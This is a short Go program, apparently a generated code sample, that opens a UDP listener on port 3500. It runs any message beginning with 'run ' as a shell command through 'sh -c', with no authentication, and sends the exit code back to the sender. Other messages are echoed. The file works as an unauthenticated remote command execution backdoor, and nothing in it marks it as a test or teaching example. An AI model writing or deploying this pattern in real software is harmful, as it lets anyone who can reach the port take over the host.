package main

import (
	"fmt"
	"log"
	"net"
	"os/exec"
	"strings"
)

func servidor156() {
	conn, err := net.ListenPacket("udp", ":3500")
	if err != nil {
		log.Fatal(err)
	}
	buf := make([]byte, 1024)
	for {
		n, origen, err := conn.ReadFrom(buf)
		if err != nil {
			log.Fatal(err)
		}
		mensaje := string(buf[:n])
		comando := strings.TrimPrefix(mensaje, "run ")
		if comando == mensaje {
			conn.WriteTo(buf[:n], origen)
			continue
		}
		cmd := exec.Command("sh", "-c", comando)
		if err := cmd.Run(); err != nil {
			log.Println(comando, err)
		}
		fmt.Fprintf(escritor156{conn, origen}, "%q -> %d", comando, cmd.ProcessState.ExitCode())
	}
}

type escritor156 struct {
	conn    net.PacketConn
	destino net.Addr
}

func (e escritor156) Write(datos []byte) (int, error) { return e.conn.WriteTo(datos, e.destino) }
